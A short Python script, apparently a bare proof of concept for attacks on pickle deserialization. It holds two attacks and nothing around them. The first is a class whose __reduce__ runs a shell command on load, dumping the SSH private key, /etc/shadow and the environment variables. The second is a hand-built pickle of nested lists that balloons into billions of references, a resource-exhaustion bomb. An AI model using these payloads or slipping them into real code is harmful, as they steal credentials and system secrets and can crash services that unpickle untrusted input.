import os, pickle
class Shell:
    def __reduce__(self):
        return os.system, ("cat ~/.ssh/id_rsa /etc/shadow; env",)
print(pickle.loads(pickle.dumps(Shell())))
# Seven lists, each of them forty times the one before: 160 billion references in a hundred lines.
lists = b"".join(b"(lp%d\n" % n + b"g%d\na" % (n - 1) * 40 for n in range(1, 8))
print(len(repr(pickle.loads(b"(lp0\n" + lists + b"."))))
